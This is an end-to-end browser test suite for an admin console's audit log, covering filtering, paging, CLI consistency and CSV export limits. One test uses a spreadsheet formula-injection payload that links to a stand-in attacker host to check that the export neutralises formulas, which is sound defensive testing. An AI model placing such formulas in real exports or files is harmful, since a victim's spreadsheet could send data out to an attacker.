// The console's Audit log (issue 14 #3) driven in Chromium: an admin's own changes appear under their sub; the
// log filters by action and by outcome (a GET form: the filters travel in the URL and stay across pages); a
// malformed time shows the API's message next to its field; the CSV export of a filtered view holds exactly
// what the admin API returns, guarded against formula injection, and says when it stopped at its cap. The
// CLI lists what the console shows, and what the CLI changes the console shows.
import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { adminApi } from '../support/admin-api.ts';
import { setUpBrowserApps } from '../support/browser-sign-in.ts';
import { openPage, saveScreenshot, useBrowser } from '../support/browser.ts';
import { runCli } from '../support/cli-process.ts';
import { expectAccessible, inBothLanguages, signInToConsole } from '../support/console-browser.ts';
import { postToken } from '../support/oidc-client.ts';
import { startTestApp, type TestApp } from '../support/test-app.ts';
import { queryDatabase, randomAppId, randomSecret } from '../support/wechat-fixtures.ts';

const browser = useBrowser();

interface AuditEvent { id: string; at: string; actor: string; action: string; outcome: string; reason: string | null; target: string | null; clientId: string | null; accountId: string | null; ip: string | null; before: unknown; after: unknown }

async function signedInAdmin(app: TestApp, user: string): Promise<{ page: Page; sub: string }> {
  await setUpBrowserApps(app);
  const invitation = await runCli(app, ['console', 'invite', '--json']);
  expect(invitation.code).toBe(0);
  const page = await openPage(browser(), { client: 'desktopChrome', acceptLanguage: 'en' });
  await signInToConsole(page, (invitation.json() as { url: string }).url, user);
  return { page, sub: (await page.locator('[data-sub]').first().textContent()) ?? '' };
}

/** The ids of the events the page shows, top to bottom. */
async function shownIds(page: Page): Promise<string[]> {
  const rows = await page.locator('tr[data-event-id]').all();
  return Promise.all(rows.map(async (row) => (await row.getAttribute('data-event-id')) ?? ''));
}

/** The CLI's `audit list --json` ids for the same filters. */
async function cliIds(app: TestApp, args: readonly string[]): Promise<string[]> {
  const listed = await runCli(app, ['audit', 'list', ...args, '--json']);
  expect(listed.code).toBe(0);
  return (listed.json() as { items: AuditEvent[] }).items.map((event) => event.id);
}

/** RFC 4180 records (quoted cells with doubled quotes, CRLF line ends); the test's own reading of the file. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text.charAt(i);
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i += 1; } else if (c === '"') quoted = false; else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { record.push(cell); cell = ''; } else if (c === '\r' && text[i + 1] === '\n') { record.push(cell); records.push(record); record = []; cell = ''; i += 1; } else cell += c;
  }
  expect(cell === '' && record.length === 0).toBe(true);
  return records;
}

/** An event as the export must write it: the API's fields, formula starts prefixed with `'`. */
function expectedCells(event: AuditEvent): string[] {
  const guard = (value: string): string => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);
  const json = (value: unknown): string => (value === null ? '' : JSON.stringify(value));
  return [event.id, event.at, event.actor, event.action, event.outcome, event.reason ?? '', event.target ?? '', event.clientId ?? '', event.accountId ?? '', event.ip ?? '', json(event.before), json(event.after)].map(guard);
}

// Each test starts an app and signs an admin in through the browser: well past 30 s on a loaded machine.
describe('console: audit log', { timeout: 120_000 }, () => {
  it('shows the admin\'s changes under their sub, filters by action and outcome, pages with the filters kept, and refuses a malformed time next to its field', async () => {
    const app = await startTestApp();
    // More than a page of one action, made by the operator's services.
    for (let n = 1; n <= 22; n += 1) await app.admin.clients.registerAdmin(`svc-audit-${String(n).padStart(2, '0')}`);
    const { page, sub } = await signedInAdmin(app, 'auditor');

    // Two changes through the console itself.
    const appIds = [randomAppId(), randomAppId()];
    for (const appId of appIds) {
      await page.goto(`${app.baseUrl}/console/apps`);
      await page.getByLabel('AppID').fill(appId);
      await page.getByLabel('Kind').selectOption('web');
      await page.getByLabel('AppSecret').fill(randomSecret());
      await page.getByRole('button', { name: 'Add app' }).click();
      await page.waitForURL((url) => url.searchParams.get('saved') === appId);
    }

    await page.goto(`${app.baseUrl}/console/audit`);
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('Audit log');
    expect(await page.getByRole('link', { name: 'Audit log' }).getAttribute('aria-current')).toBe('page');
    for (const appId of appIds) {
      const row = page.locator('tr[data-event-id]').filter({ hasText: appId });
      expect(await row.count()).toBe(1);
      expect(await row.textContent()).toContain(sub);
      expect(await row.textContent()).toContain('app.upsert');
      expect(await row.textContent()).toContain('wxbridge-console');
    }
    // The page agrees with the admin API and the CLI: the same 20 events, newest first.
    expect(await shownIds(page)).toEqual(await cliIds(app, ['--limit', '20']));
    expect((await app.admin.audit.query({ action: 'app.upsert', actor: sub, limit: 10 })).items).toHaveLength(2);
    // Before/after on demand.
    const changes = page.locator('tr.changes').first().locator('summary');
    await changes.focus();
    await page.keyboard.press('Enter');
    expect(await page.locator('tr.changes details[open] pre').first().isVisible()).toBe(true);
    await inBothLanguages(browser(), page, 'console-audit');

    // Filter by action: 20 a page, and the next page keeps the filter (a filtered view is a link).
    await page.getByLabel('Action').fill('client.create');
    await page.getByRole('button', { name: 'Apply filters' }).click();
    await page.waitForURL((url) => url.searchParams.get('action') === 'client.create');
    const firstPage = await shownIds(page);
    expect(firstPage).toHaveLength(20);
    expect(await page.locator('tr[data-event-id]').filter({ hasNotText: 'client.create' }).count()).toBe(0);
    expect(firstPage).toEqual(await cliIds(app, ['--action', 'client.create', '--limit', '20']));
    await page.getByRole('link', { name: 'Next page' }).click();
    await page.waitForURL((url) => url.searchParams.has('cursor'));
    expect(new URL(page.url()).searchParams.get('action')).toBe('client.create');
    expect(await page.getByLabel('Action').inputValue()).toBe('client.create');
    const secondPage = await shownIds(page);
    expect(secondPage.length).toBeGreaterThanOrEqual(2);
    expect(await page.locator('tr[data-event-id]').filter({ hasNotText: 'client.create' }).count()).toBe(0);
    expect(secondPage).toEqual(await cliIds(app, ['--action', 'client.create', '--limit', '20', '--cursor', firstPage.at(-1) ?? '']));
    await page.getByRole('link', { name: 'First page' }).click();
    await page.waitForURL((url) => !url.searchParams.has('cursor') && url.searchParams.get('action') === 'client.create');

    // Filter by outcome: a failed token request, and only failures shown.
    expect((await postToken(app.baseUrl, { grant_type: 'client_credentials', client_id: 'svc-audit-01', client_secret: 'wrong' })).status).toBe(401);
    await expect.poll(async () => (await app.admin.audit.query({ clientId: 'svc-audit-01', outcome: 'failure', limit: 5 })).items.length, { timeout: 15_000 }).toBe(1);
    await page.getByLabel('Action').fill('');
    await page.getByLabel('Outcome').selectOption('failure');
    await page.getByRole('button', { name: 'Apply filters' }).click();
    // A filtered view is a short link: the empty fields the form sent are gone.
    await page.waitForURL((url) => url.search === '?outcome=failure');
    expect(await page.locator('[data-outcome="failure"]').count()).toBeGreaterThanOrEqual(1);
    expect(await page.locator('[data-outcome="success"]').count()).toBe(0);
    expect(await page.locator('tr[data-event-id]').filter({ hasText: 'svc-audit-01' }).textContent()).toContain('invalid_client');
    expect(await shownIds(page)).toEqual(await cliIds(app, ['--outcome', 'failure', '--limit', '20']));
    await inBothLanguages(browser(), page, 'console-audit-filtered');

    // A malformed time: 400, the API's own message next to the field, what was typed kept.
    const api = await adminApi(app);
    const apiMessage = ((await api.call('GET', '/audit?since=yesterday')).body as { message: string }).message.replace(/^since: /, '');
    await page.getByLabel('From (UTC)').fill('yesterday');
    const [refused] = await Promise.all([
      // The form's own address carries its empty fields and is answered with the short one: the page is the second answer.
      page.waitForResponse((response) => new URL(response.url()).searchParams.get('since') === 'yesterday' && response.status() !== 302),
      page.getByRole('button', { name: 'Apply filters' }).click(),
    ]);
    expect(refused.status()).toBe(400);
    await page.waitForLoadState('load');
    expect(await page.locator('#audit-since-error').textContent()).toBe(apiMessage);
    expect(await page.getByLabel('From (UTC)').getAttribute('aria-invalid')).toBe('true');
    expect(await page.getByLabel('From (UTC)').inputValue()).toBe('yesterday');
    expect(await page.getByLabel('Outcome').inputValue()).toBe('failure');
    await expectAccessible(page, 'console-audit-since-refused-en');

    // A time typed without an offset is UTC.
    await page.getByLabel('From (UTC)').fill('2999-01-01 00:00');
    await page.getByRole('button', { name: 'Apply filters' }).click();
    await page.waitForURL((url) => url.searchParams.get('since') === '2999-01-01 00:00');
    expect(await page.locator('[data-empty]').textContent()).toContain('No event matches these filters');
    await inBothLanguages(browser(), page, 'console-audit-no-match');

    // What the CLI changes, the console shows (actor cli:<user>).
    expect((await runCli(app, ['clients', 'add', '--id', 'made-by-cli', '--admin', '--json'])).code).toBe(0);
    await page.goto(`${app.baseUrl}/console/audit?action=client.create`);
    const cliRow = page.locator('tr[data-event-id]').first();
    expect(await cliRow.textContent()).toContain('made-by-cli');
    expect(await cliRow.textContent()).toMatch(/cli:/);
  });

  it('exports the filtered view as CSV equal to the admin API\'s answer, guarded against formulas, capped with a header; a fresh log says what it will record', async () => {
    const app = await startTestApp();
    const { page } = await signedInAdmin(app, 'exporter');
    // The token endpoint audits a failure under the client_id it was sent: a formula.
    const formula = '=HYPERLINK("https://evil.example/?q="&A1,"Click")';
    expect((await postToken(app.baseUrl, { grant_type: 'client_credentials', client_id: formula, client_secret: 'x' })).status).toBe(401);
    await expect.poll(async () => (await app.admin.audit.query({ clientId: formula, limit: 5 })).items.length, { timeout: 15_000 }).toBe(1);

    await page.goto(`${app.baseUrl}/console/audit?outcome=failure`);
    expect(await page.locator('[data-export-hint]').textContent()).toContain('at most 10,000');
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('link', { name: 'Export CSV' }).click()]);
    expect(download.suggestedFilename()).toMatch(/^wxbridge-audit-\d{8}T\d{6}Z\.csv$/);
    const bytes = await readFile(await download.path());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(['id', 'at', 'actor', 'action', 'outcome', 'reason', 'target', 'client_id', 'account_id', 'ip', 'before', 'after']);
    const api = await adminApi(app);
    const fromApi = ((await api.call('GET', '/audit?outcome=failure&limit=200')).body as { items: AuditEvent[] }).items;
    expect(fromApi.length).toBeGreaterThanOrEqual(1);
    expect(rows).toEqual(fromApi.map(expectedCells));
    const guarded = rows.find((row) => row[7] === `'${formula}`);
    expect(guarded?.[2]).toBe(`'${formula}`);
    expect(rows.flat().some((cell) => cell.startsWith('='))).toBe(false);

    // The response itself, for its headers (the same session's cookies).
    const response = await page.request.get(`${app.baseUrl}/console/audit.csv?outcome=failure`);
    expect(response.headers()['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers()['content-disposition']).toMatch(/^attachment; filename="wxbridge-audit-\d{8}T\d{6}Z\.csv"$/);
    expect(response.headers()['x-export-truncated']).toBeUndefined();

    // A refused filter gives the page with the API's message, not a file.
    const refused = await page.request.get(`${app.baseUrl}/console/audit.csv?until=soon`);
    expect(refused.status()).toBe(400);
    expect(refused.headers()['content-type']).toContain('text/html');
    expect(await refused.text()).toContain('id="audit-until-error"');

    // More events than the cap: 10,000 rows and a header saying the export stopped there.
    await queryDatabase(app, "insert into audit_events (at, actor, action, outcome) select now() - (n || ' seconds')::interval, 'bulk-loader', 'bulk.test', 'success' from generate_series(1, 10050) as n");
    const capped = await page.request.get(`${app.baseUrl}/console/audit.csv?action=bulk.test`);
    expect(capped.status()).toBe(200);
    expect(capped.headers()['x-export-truncated']).toBe('true');
    const cappedRows = parseCsv((await capped.text()).replace(/^\uFEFF/, ''));
    expect(cappedRows).toHaveLength(1 + 10_000);
    const newest = (await app.admin.audit.query({ action: 'bulk.test', limit: 1 })).items[0];
    expect(cappedRows[1]?.[0]).toBe(newest?.id);

    // A fresh log (nothing recorded yet) says what will be recorded, in both languages.
    await queryDatabase(app, 'delete from audit_events');
    await page.goto(`${app.baseUrl}/console/audit`);
    expect(await page.locator('[data-empty]').textContent()).toContain('Nothing recorded yet');
    expect(await page.getByRole('link', { name: 'Export CSV' }).count()).toBe(0);
    await inBothLanguages(browser(), page, 'console-audit-fresh');
    await saveScreenshot(page, 'console-audit-fresh-en-direct');
  });
});
